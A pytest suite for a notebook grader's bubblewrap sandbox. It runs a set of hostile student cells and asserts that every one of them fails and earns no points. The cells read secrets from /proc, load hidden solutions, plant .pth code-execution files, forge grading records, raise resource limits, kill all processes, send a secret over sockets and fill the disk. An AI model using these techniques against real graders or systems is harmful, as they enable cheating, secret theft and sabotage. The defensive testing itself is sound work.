"""Grading isolation by the operating system: attacks a hostile candidate would try, graded for real.

Every attack runs in a real bubblewrap sandbox (no mocks), in one batch of two jobs next to two
honest submissions. An attack that works makes its function return the right answer (or its model
cheat perfectly), so "no points" means the attack failed. Each attack is bounded in time (cell
limits, bounded loops), memory (a 2 GiB address-space limit) and processes.
"""

from __future__ import annotations

import hashlib
import json
import os
import socket
import subprocess
import sys
import tempfile
import threading
from pathlib import Path

import nbformat
import pytest
from nbformat.v4 import new_code_cell, new_notebook

from grader import grading
from grader.grading import GradeOptions, isolation
from grader.notebooks import write

ROOT = Path(__file__).resolve().parents[1]
SECRET = "s3cr3t-for-the-interviewer-only"
SEED = 918_273
MARKER = "INTERVIEWER-ONLY-7f3a"
pytestmark = pytest.mark.xdist_group("isolation")
OPTIONS = grading.GradeOptions(seed=SEED, cell_timeout=20, timeout=240, memory=2 * 2**30, nproc=64)

SETUP = "import grader, os, sys, glob, json, pathlib\nimport pandas as pd\nex = grader.load('00')\nLEAK = False"
#: the last cell of every attack: the right answer only when the attack set LEAK
ANSWER = ("def orders_per_customer(lines):\n"
          "    if LEAK:\n"
          "        return lines.groupby('customer_id')['order_id'].nunique().rename('n_orders')\n"
          "    return lines.groupby('customer_id').size().rename('n_orders')")
RIGHT = ("def orders_per_customer(lines):\n"
         "    return lines.groupby('customer_id')['order_id'].nunique().rename('n_orders')")
#: places worth searching from inside the kernel (bounded: no walk of the whole /usr)
SEARCH = ("ROOTS = {str(pathlib.Path(grader.__file__).parents[1]), '/work', '/tmp', '/home', '/root', '/run',\n"
          "         '/var/tmp', '/dev/shm', sys.prefix, os.getcwd()}\n"
          "def find(pattern, limit=20000):\n"
          "    out, seen = [], 0\n"
          "    for root in ROOTS:\n"
          "        for folder, dirs, files in os.walk(root):\n"
          "            seen += 1\n"
          "            if seen > limit: return out\n"
          "            out += [os.path.join(folder, f) for f in files if glob.fnmatch.fnmatch(f, pattern)]\n"
          "    return out\n")

ATTACKS = {
    # -- reading the answers --------------------------------------------------------------
    "solutions_source": [SEARCH + (
        "for path in find('00_start_here.py'):\n"
        "    try:\n"
        "        space = {}\n"
        "        exec(compile(open(path).read(), path, 'exec'), space)\n"
        "        if 'orders_per_customer' in space and 'groupby' in open(path).read():\n"
        "            LEAK = True\n"
        "    except Exception:\n"
        "        pass")],
    "solutions_runpy_and_spec": [(
        "import runpy, importlib.util\n"
        "base = pathlib.Path(grader.__file__).parents[1]\n"
        "for path in [base / 'solutions' / '00_start_here.py', base / 'solutions' / '__init__.py']:\n"
        "    try:\n"
        "        runpy.run_path(str(path)); LEAK = True\n"
        "    except Exception:\n"
        "        pass\n"
        "    try:\n"
        "        spec = importlib.util.spec_from_file_location('s', path)\n"
        "        module = importlib.util.module_from_spec(spec); spec.loader.exec_module(module); LEAK = True\n"
        "    except Exception:\n"
        "        pass")],
    "solutions_pyc": [SEARCH + (
        "import marshal\n"
        "for path in find('00_start_here*.pyc') + find('*00_start_here*.pyc'):\n"
        "    try:\n"
        "        exec(marshal.loads(open(path, 'rb').read()[16:]), {}); LEAK = True\n"
        "    except Exception:\n"
        "        pass")],
    "solutions_import_and_meta_path": [(
        "import importlib\n"
        "sys.meta_path[:] = [m for m in sys.meta_path if 'Blocker' not in type(m).__name__]\n"
        "for name in ['solutions.00_start_here', 'grader.exercises.00_start_here']:\n"
        "    try:\n"
        "        importlib.import_module(name); LEAK = True\n"
        "    except Exception:\n"
        "        pass")],
    "interviewer_guide": [SEARCH + (
        "for path in find('INTERVIEWER*') + find('*.md'):\n"
        "    try:\n"
        f"        LEAK = LEAK or {MARKER!r} in open(path).read()\n"
        "    except Exception:\n"
        "        pass")],
    # -- reading the grader's secrets -----------------------------------------------------
    "secrets_in_proc": [(
        "for pid in [p for p in os.listdir('/proc') if p.isdigit()]:\n"
        "    for what in ('environ', 'cmdline'):\n"
        "        try:\n"
        "            text = open(f'/proc/{pid}/{what}', 'rb').read()\n"
        f"            LEAK = LEAK or b{SECRET!r} in text or b'{SEED}' in text or b'WORKBOOK_SECRET' in text\n"
        "        except Exception:\n"
        "            pass\n"
        f"LEAK = LEAK or any(k in os.environ for k in ('WORKBOOK_SECRET', 'WORKBOOK_GRADING_SEED'))")],
    "hidden_cases_on_disk": [SEARCH + (
        "import threading, time, pickle\n"
        "FOUND = []\n"
        "def watch():\n"  # keeps looking while the harvest runs
        "    for _ in range(600):\n"
        "        for path in find('*.pkl', 2000):\n"
        "            try:\n"
        "                args, _ = pickle.load(open(path, 'rb'))\n"
        "                if len(args) == 4: FOUND.append(args[3])\n"
        "            except Exception:\n"
        "                pass\n"
        "        time.sleep(0.05)\n"
        "threading.Thread(target=watch, daemon=True).start()\n"
        "from sklearn.base import BaseEstimator, ClassifierMixin\n"
        "import numpy as np\n"
        "class Oracle(ClassifierMixin, BaseEstimator):\n"
        "    def fit(self, X, y):\n"
        "        self.classes_ = np.unique(y); return self\n"
        "    def predict_proba(self, X):\n"
        "        for y in FOUND:\n"
        "            if len(y) == len(X):\n"
        "                p = np.asarray(y, dtype=float); return np.c_[1 - p, p]\n"
        "        rng = np.random.default_rng(0); p = rng.random(len(X)); return np.c_[1 - p, p]\n"
        "    def predict(self, X):\n"
        "        return self.predict_proba(X)[:, 1] > 0.5\n"
        "model = Oracle()")],
    # -- poisoning later grades -----------------------------------------------------------
    "poison_checkout_and_site_packages": [(
        "import site, sysconfig\n"
        "base = pathlib.Path(grader.__file__).parents[1]\n"
        "targets = [base / 'solutions' / '00_start_here.py', base / 'solutions' / '__pycache__' / 'x.pyc',\n"
        "           base / 'grader' / '_harvest.py', base / 'grader' / 'evil.py',\n"
        "           base / 'datasets' / 'order_lines.csv.gz', pathlib.Path(sys.prefix) / 'evil',\n"
        "           pathlib.Path(sysconfig.get_paths()['purelib']) / 'zz_evil.pth']\n"
        "for t in targets:\n"
        "    try:\n"
        "        t.parent.mkdir(parents=True, exist_ok=True)\n"
        "        open(t, 'a').write('\\nimport os; os.system(\"touch /tmp/PWNED\")\\n'); LEAK = True\n"
        "    except Exception:\n"
        "        pass")],
    # -- forging the harvest --------------------------------------------------------------
    "forged_records": [(
        "import IPython.display as d\n"
        "RIGHT_SHAPE = {'id': 'start.orders_per_customer', 'present': True, 'callable': True, 'stub': False,\n"
        "               'type': 'function', 'runs': []}\n"
        "MIME = 'application/vnd.workbook.record+json'\n"
        "d.publish_display_data({MIME: json.dumps(RIGHT_SHAPE)})\n"
        "real = d.publish_display_data\n"
        "def forged(data, *a, **k):\n"
        "    rec = json.loads(data.get(MIME, '{}'))\n"
        "    if rec.get('id') == 'start.orders_per_customer':\n"
        "        rec['runs'] = [{'value': {'t': 'none'}}] * len(rec.get('runs', []))\n"
        "    return real({MIME: json.dumps(rec)}, *a, **k)\n"
        "d.publish_display_data = forged\n"
        "json.dumps = lambda *a, **k: json.JSONEncoder().encode(RIGHT_SHAPE)")],
    # -- escaping limits ------------------------------------------------------------------
    "raise_limits_then_allocate": [(
        "import resource, numpy as np\n"
        "for r in (resource.RLIMIT_AS, resource.RLIMIT_NPROC, resource.RLIMIT_FSIZE):\n"
        "    try:\n"
        "        resource.setrlimit(r, (resource.RLIM_INFINITY, resource.RLIM_INFINITY)); LEAK = True\n"
        "    except Exception:\n"
        "        pass\n"
        "try:\n"
        "    hog = np.ones(6 * 2**30 // 8); LEAK = True\n"
        "except MemoryError:\n"
        "    pass")],
    "outlive_grading": [(
        "import subprocess\n"
        "subprocess.Popen(['sh', '-c', '(setsid sleep 4711 &) ; (nohup sleep 4711 &)'], start_new_session=True)\n"
        "for path in ['/sys/fs/cgroup/cgroup.procs', '/sys/fs/cgroup/pids/cgroup.procs']:\n"
        "    try:\n"
        "        open(path, 'w').write(str(os.getpid())); LEAK = True\n"
        "    except Exception:\n"
        "        pass")],
    "network": [(
        "import socket\n"
        "for host in ('127.0.0.1', '::1', 'localhost', '10.0.2.2', '172.17.0.1'):\n"
        "    for port in LISTENER_PORTS:\n"
        "        try:\n"
        "            s = socket.create_connection((host, port), timeout=0.5)\n"
        f"            s.sendall(b'{SECRET}'); s.close(); LEAK = True\n"
        "        except Exception:\n"
        "            pass")],
    # -- disturbing classmates ------------------------------------------------------------
    "kill_everything": [(
        "import signal\n"
        "for pid in [int(p) for p in os.listdir('/proc') if p.isdigit()]:\n"
        "    if pid != os.getpid():\n"
        "        for sig in (signal.SIGKILL,):\n"
        "            try:\n"
        "                os.kill(pid, sig)\n"
        "            except Exception:\n"
        "                pass\n"
        "for pid in (os.getppid(), 1):\n"
        "    try:\n"
        "        os.kill(pid, 0)\n"
        "    except Exception:\n"
        "        pass")],
    "read_classmates": [SEARCH + (
        "import socket as so\n"
        "found = find('*.ipynb') + find('*.pkl') + find('workbook-grade-*') + find('kernel*.json')\n"
        "others = [p for p in found if not p.startswith((sys.prefix, sys.base_prefix, '/run/kernel.json'))]\n"
        "LEAK = bool(others)\n"
        "for pid in [p for p in os.listdir('/proc') if p.isdigit()]:\n"
        "    try:\n"
        "        LEAK = LEAK or bool(os.listdir(f'/proc/{pid}/root/run/workbook'))\n"
        "    except Exception:\n"
        "        pass\n"
        "mine = (os.stat('/').st_dev, os.stat('/').st_ino)\n"
        "for path in glob.glob('/proc/*/root/home/learner/.kernel-*'):\n"
        "    root = os.stat(path.split('/home/')[0])\n"
        "    if (root.st_dev, root.st_ino) != mine:  # another sandbox's kernel\n"
        "        try:\n"
        "            s = so.socket(so.AF_UNIX); s.connect(path); LEAK = True\n"
        "        except Exception:\n"
        "            pass")],
    "fill_the_disk": [(
        "block = b'x' * 2**20\n"
        "try:\n"
        "    with open('filler', 'wb') as f:\n"
        "        for _ in range(4096):\n"
        "            f.write(block)\n"
        "    LEAK = True\n"
        "except OSError:\n"
        "    pass\n"
        "try:\n"
        "    with open('/tmp/filler2', 'wb') as f:\n"
        "        for _ in range(4096):\n"
        "            f.write(block)\n"
        "    LEAK = True\n"
        "except OSError:\n"
        "    pass")],
    # -- huge records ---------------------------------------------------------------------
    "huge_record": [(
        "import numpy as np\n"
        "def orders_per_customer(lines):\n"
        "    return pd.DataFrame(np.random.default_rng(0).random((1_900_000, 1)), columns=['n_orders'])")],
}


def _notebook(cells) -> nbformat.NotebookNode:
    nb = new_notebook(cells=[new_code_cell(c) for c in cells])
    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
    nb.metadata["workbook"] = {"topic": "00_start_here"}
    return nb


def _tree_digest(*folders) -> str:
    h = hashlib.sha256()
    for folder in folders:
        for dirpath, dirnames, filenames in sorted(os.walk(folder)):
            dirnames.sort()
            for name in sorted(filenames):
                path = os.path.join(dirpath, name)
                h.update(path.encode())
                try:
                    stat = os.lstat(path)
                    h.update(f"{stat.st_size}:{stat.st_mtime_ns}".encode())
                except OSError:
                    pass
    return h.hexdigest()


def _private_folders(folder) -> list[str]:
    """What gradings left in the temporary folder; the grader's one font list (kept for the whole process,
    removed when it exits: see ``execute.font_list``) is not a grading's."""
    return sorted(n for n in os.listdir(folder) if not n.startswith("workbook-fonts-"))


def _sleepers(tag="sleep 4711") -> int:
    out = subprocess.run(["pgrep", "-fc", f"^{tag}$"], capture_output=True, text=True)
    return int(out.stdout.strip() or 0)


class _Listener:
    """TCP listeners on the host's loopback that record every byte a kernel sends them."""

    def __init__(self):
        self.received: list[bytes] = []
        self.sockets = []
        for family, host in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1")):
            try:
                s = socket.socket(family)
                s.bind((host, 0))
                s.listen()
                s.settimeout(0.2)
                self.sockets.append(s)
            except OSError:
                continue
        self.ports = [s.getsockname()[1] for s in self.sockets]
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self._run, daemon=True)
        self.thread.start()

    def _run(self):
        while not self.stop.is_set():
            for s in self.sockets:
                try:
                    conn, _ = s.accept()
                except OSError:
                    continue
                conn.settimeout(1)
                try:
                    self.received.append(conn.recv(4096) or b"<connected>")
                except OSError:
                    self.received.append(b"<connected>")
                conn.close()

    def close(self):
        self.stop.set()
        self.thread.join(2)
        for s in self.sockets:
            s.close()


#: right only in a kernel forked from the fork server (its init is a fork of the fork server)
FORKED_PROBE = "LEAK = b'grader._zygote' in open('/proc/1/cmdline', 'rb').read()"


@pytest.fixture(scope="module", params=["forked", "cold"])
def batch(tmp_path_factory, request):
    """Grade every attack and two honest submissions in one batch of two jobs: with kernels forked from the
    fork server (the default, as root), then with every kernel started cold by bubblewrap."""
    isolation.detect()  # the real sandbox, or this module fails loudly
    folder = tmp_path_factory.mktemp("attacks")
    listener = _Listener()
    mp = pytest.MonkeyPatch()
    mp.setenv("WORKBOOK_SECRET", SECRET)
    mp.setenv("WORKBOOK_GRADING_SEED", str(SEED))
    scratch = tmp_path_factory.mktemp("grader-temp")
    mp.setattr(tempfile, "tempdir", str(scratch))  # the grader's private folders go here, and must go away
    paths = {}
    try:
        for name, cells in ATTACKS.items():
            body = [c.replace("LISTENER_PORTS", repr(listener.ports)) for c in cells]
            last = [] if name == "huge_record" else [ANSWER]
            paths[name] = write(_notebook([SETUP, *body, *last]), folder / name / "00_start_here.ipynb")
            (folder / name / "INTERVIEWER.md").write_text(f"# answers\n{MARKER}\n")
        for honest in ("honest_first", "honest_last"):
            paths[honest] = write(_notebook([SETUP, RIGHT]), folder / honest / "00_start_here.ipynb")
        probe = _notebook([SETUP, FORKED_PROBE, ANSWER])
        paths["forked_probe"] = write(probe, folder / "probe" / "00_start_here.ipynb")
        order = ["honest_first", *ATTACKS, "forked_probe", "honest_last"]
        options = GradeOptions(**{**OPTIONS.__dict__, "warm_kernels": request.param == "forked"})
        before = {"checkout": _tree_digest(ROOT / "grader", ROOT / "solutions", ROOT / "datasets"),
                  "site": sorted(os.listdir(next(p for p in sys.path if p.endswith("site-packages")))),
                  "temp": _private_folders(scratch), "sleepers": _sleepers()}
        grades = grading.grade_many([paths[n] for n in order], options, jobs=2)
        after = {"checkout": _tree_digest(ROOT / "grader", ROOT / "solutions", ROOT / "datasets"),
                 "site": sorted(os.listdir(next(p for p in sys.path if p.endswith("site-packages")))),
                 "temp": _private_folders(scratch), "sleepers": _sleepers()}
    finally:
        listener.close()
        mp.undo()
    yield dict(zip(order, grades, strict=True)), before, after, listener, request.param


def _q(grade, qid="start.orders_per_customer"):
    return next(q for q in grade.questions if q.id == qid)


@pytest.mark.parametrize("name", [n for n in ATTACKS if n not in ("huge_record",)])
def test_an_attack_earns_nothing(batch, name):
    grades = batch[0]
    q = _q(grades[name])
    assert q.points == 0, (name, q.outcome.status, [p.en for p in grades[name].problems])
    assert _q(grades[name], "start.first_model").points == 0


@pytest.mark.parametrize("name", list(ATTACKS))
def test_the_report_is_complete_and_the_secret_never_appears(batch, name):
    grade = batch[0][name]
    assert [q.id for q in grade.questions] == ["start.orders_per_customer", "start.n_active",
                                                "start.snapshot_rule", "start.why_value", "start.first_model"]
    text = json.dumps(grade.to_dict("en"), ensure_ascii=False) + grading.table([grade])
    assert SECRET not in text and MARKER not in text


def test_the_kernels_were_the_ones_the_batch_names(batch):
    """Forked kernels really were forked (a fork server that silently failed would test cold kernels twice)."""
    forked = batch[4] == "forked" and os.geteuid() == 0  # the fork server runs only as root
    assert _q(batch[0]["forked_probe"]).points == (1 if forked else 0)


def test_honest_submissions_around_the_attacks_get_their_points(batch):
    grades = batch[0]
    for name in ("honest_first", "honest_last"):
        assert _q(grades[name]).points == 1, [p.en for p in grades[name].problems]


def test_the_checkout_site_packages_and_temp_folder_are_untouched(batch):
    _, before, after, *_ = batch
    assert after["checkout"] == before["checkout"]
    assert after["site"] == before["site"]
    assert after["temp"] == before["temp"], "a grading left its private folder (and connection file) behind"
    assert not Path("/tmp/PWNED").exists()


def test_no_process_outlives_its_grading(batch):
    assert batch[2]["sleepers"] == batch[1]["sleepers"] == 0


def test_the_network_is_unreachable(batch):
    listener = batch[3]
    assert listener.ports, "the test could not open a listener"
    assert listener.received == []


def test_resource_limits_are_hard(batch):
    grade = batch[0]["raise_limits_then_allocate"]
    assert _q(grade).points == 0


def test_a_huge_record_is_refused_without_bloating_the_grader(batch):
    q = _q(batch[0]["huge_record"])
    assert q.points == 0 and q.outcome.status in ("incorrect", "uncheckable")


def test_hidden_labels_never_reach_the_kernel(batch):
    q = _q(batch[0]["hidden_cases_on_disk"], "start.first_model")
    assert q.points == 0 and q.outcome.status == "incorrect"


def test_grading_refuses_without_isolation_and_trusted_grades(tmp_path, monkeypatch, capsys):
    path = write(_notebook([SETUP, RIGHT]), tmp_path / "00_start_here.ipynb")
    real_which = isolation.shutil.which
    monkeypatch.setattr(isolation.shutil, "which", lambda name: None if name == "bwrap" else real_which(name))
    isolation.detect.cache_clear()
    try:
        with pytest.raises(isolation.IsolationUnavailable, match="bubblewrap.*--trusted"):
            grading.grade_notebook(path, OPTIONS)
        from grader.cli import main

        assert main(["grade", str(path), "--seed", "3"]) != 0
        assert "bubblewrap" in capsys.readouterr().err
        trusted = grading.GradeOptions(**{**OPTIONS.__dict__, "trusted": True})
        assert _q(grading.grade_notebook(path, trusted)).points == 1
    finally:
        isolation.detect.cache_clear()


def test_the_kernel_sees_only_its_view(tmp_path):
    """What the kernel can see, asked directly: no answers, no checkout, its own uid, no capabilities."""
    probe = ("import os, grader, pathlib\n"
             "base = pathlib.Path(grader.__file__).parents[1]\n"
             "status = open('/proc/self/status').read()\n"
             "def orders_per_customer(lines):\n"
             "    return pd.Series({'uid': os.getuid(), 'pids': len([p for p in os.listdir('/proc') if p.isdigit()]),\n"
             "        'caps': int(status.split('CapEff:')[1].split()[0], 16),\n"
             "        'solutions': int((base / 'solutions').exists()), 'git': int((base / '.git').exists()),\n"
             "        'tests': int((base / 'tests').exists()),\n"
             "        'exercises': len(os.listdir(base / 'grader' / 'exercises')),\n"
             "        'datasets': int((base / 'datasets' / 'order_lines.csv.gz').exists())}, name='n_orders')")
    path = write(_notebook([SETUP, probe]), tmp_path / "00_start_here.ipynb")
    from grader.grading import execute

    nb = nbformat.read(str(path), as_version=4)
    from grader.registry import load

    private = Path(tempfile.mkdtemp())
    try:
        run = execute.execute(nb, [load("00")["start.orders_per_customer"]], OPTIONS, private)
    finally:
        import shutil

        shutil.rmtree(private, ignore_errors=True)
    record = run.records["start.orders_per_customer"]
    seen = grading.decode(record["runs"][0]["value"])
    assert seen["uid"] not in (0, os.getuid()) or not isolation.detect().as_root
    assert seen["caps"] == 0 and seen["pids"] <= 3
    assert seen["solutions"] == 0 and seen["git"] == 0 and seen["tests"] == 0 and seen["exercises"] == 0
    assert seen["datasets"] == 1


def test_the_command_line_keeps_its_seed_and_secret_from_the_kernel(tmp_path):
    """The real ``workbook grade`` process: its own environment and argv hold the secret and the seed."""
    path = write(_notebook([SETUP, *ATTACKS["secrets_in_proc"], ANSWER]), tmp_path / "sub" / "00_start_here.ipynb")
    env = {**os.environ, "WORKBOOK_SECRET": SECRET}
    out = tmp_path / "grades.json"
    run = subprocess.run([sys.executable, "-m", "grader", "grade", str(path), "--seed", str(SEED), "--json", str(out),
                          "--jobs", "1", "--cell-timeout", "30"], env=env, capture_output=True, text=True, timeout=300)
    assert run.returncode == 0, run.stderr[-2000:]
    grades = json.loads(out.read_text())
    q = next(q for q in grades[0]["questions"] if q["id"] == "start.orders_per_customer")
    assert q["points"] == 0 and q["outcome"] == "incorrect"
    assert SECRET not in run.stdout + run.stderr + out.read_text()


def test_the_user_namespace_form_of_the_sandbox_runs(tmp_path):
    """What a normal user gets (``--unshare-user``): checked here as root, where both forms work."""
    connection = tmp_path / "kernel.json"
    connection.write_text("{}")
    sandbox = isolation.Sandbox(bwrap=isolation.detect().bwrap, as_root=False)
    cmd = sandbox.command(["sh", "-c", "id -u; ls /home/learner; cat /proc/self/status | grep CapEff; ls /proc"],
                          env={"PATH": "/usr/bin:/bin"}, limits=isolation.Limits(), connection_file=str(connection))
    out = subprocess.run(cmd, capture_output=True, text=True, timeout=60)
    assert out.returncode == 0, out.stderr
    lines = out.stdout.split()
    assert int(lines[0]) >= 1000 and "0000000000000000" in out.stdout


def test_a_checkout_under_tmp_still_gets_a_sandbox(tmp_path, monkeypatch):
    """CI may clone the project under /tmp, which the sandbox otherwise links to the work folder."""
    assert str(tmp_path).startswith("/tmp/") or pytest.skip("the temporary folder is not under /tmp")
    (tmp_path / "env").mkdir()
    (tmp_path / "env" / "marker").write_text("seen")
    real = isolation._python_paths
    monkeypatch.setattr(isolation, "_python_paths", lambda: [*real(), str(tmp_path / "env")])
    connection = tmp_path / "kernel.json"
    connection.write_text("{}")
    cmd = isolation.detect().command(["cat", str(tmp_path / "env" / "marker")], env={"PATH": "/usr/bin:/bin"},
                                     limits=isolation.Limits(), connection_file=str(connection))
    out = subprocess.run(cmd, capture_output=True, text=True, timeout=60)
    assert out.returncode == 0 and out.stdout == "seen", out.stderr


def test_records_read_late_by_a_loaded_grader_are_still_collected(tmp_path, monkeypatch):
    """Under load the grader may read the harvest's records seconds after the kernel's reply.

    nbclient waits 4 s for a cell's outputs after its reply and then carries on; the clean-clone CI lost
    the answer key's records that way. Here the grader's reading of the output channel is held back 6 s.
    """
    import asyncio

    from grader.grading import execute
    from grader.registry import load

    original = execute._client_class

    def slow_reader():
        base = original()

        class SlowReader(base):
            async def _async_poll_output_msg(self, parent_msg_id, cell, cell_index):
                if self.collector is not None:  # the harvest cell: its records come late
                    await asyncio.sleep(6)
                return await super()._async_poll_output_msg(parent_msg_id, cell, cell_index)

        return SlowReader

    monkeypatch.setattr(execute, "_client_class", slow_reader)
    path = write(_notebook([SETUP, ANSWER]), tmp_path / "00_start_here.ipynb")
    nb = nbformat.read(str(path), as_version=4)
    private = Path(tempfile.mkdtemp())
    try:
        run = execute.execute(nb, [load("00")["start.orders_per_customer"]], OPTIONS, private)
    finally:
        import shutil

        shutil.rmtree(private, ignore_errors=True)
    assert run.problems == []
    assert "start.orders_per_customer" in run.records and run.kernel_info


def test_every_kernel_reads_one_font_list_the_grader_built(tmp_path):
    """matplotlib finds a valid font list in the kernel's (empty) home, bound read-only: no kernel rescans."""
    from grader.grading import execute
    from grader.registry import load

    assert execute.font_list(), "the grader could not build matplotlib's font list"
    probe = ("import matplotlib, matplotlib.font_manager as fm\n"
             "def orders_per_customer(lines):\n"
             "    folder = matplotlib.get_cachedir()\n"
             "    path = os.path.join(folder, f'fontlist-v{fm.FontManager.__version__}.json')\n"
             "    cached = fm.json_load(path)\n"
             "    try:\n"
             "        open(path, 'a').close(); writable = 1\n"
             "    except OSError:\n"
             "        writable = 0\n"
             "    return pd.Series({'home': int(folder == os.path.expanduser('~/.matplotlib')),\n"
             "        'valid': int(cached._version == fm.FontManager.__version__), 'file_writable': writable,\n"
             "        'folder_writable': int(os.access(folder, os.W_OK)),\n"
             "        'dejavu': int('DejaVu Sans' in {f.name for f in fm.fontManager.ttflist})}, name='n_orders')")
    path = write(_notebook([SETUP, probe]), tmp_path / "00_start_here.ipynb")
    nb = nbformat.read(str(path), as_version=4)
    private = Path(tempfile.mkdtemp())
    try:
        run = execute.execute(nb, [load("00")["start.orders_per_customer"]], OPTIONS, private)
    finally:
        import shutil

        shutil.rmtree(private, ignore_errors=True)
    seen = grading.decode(run.records["start.orders_per_customer"]["runs"][0]["value"])
    assert seen.astype(int).to_dict() == {"home": 1, "valid": 1, "file_writable": 0, "folder_writable": 1, "dejavu": 1}


@pytest.mark.parametrize("inside", ["../escape.json", "", ".matplotlib/../../x", "."])
def test_files_for_the_kernels_home_stay_in_it(inside, tmp_path):
    sandbox = isolation.detect()
    assert sandbox is not None, "make test installs bubblewrap"
    host = tmp_path / "f.json"
    host.write_text("{}")
    with pytest.raises(ValueError, match="kernel's home"):
        sandbox.command(["true"], env={}, limits=isolation.Limits(), connection_file=str(host),
                        home_files={inside: str(host)})
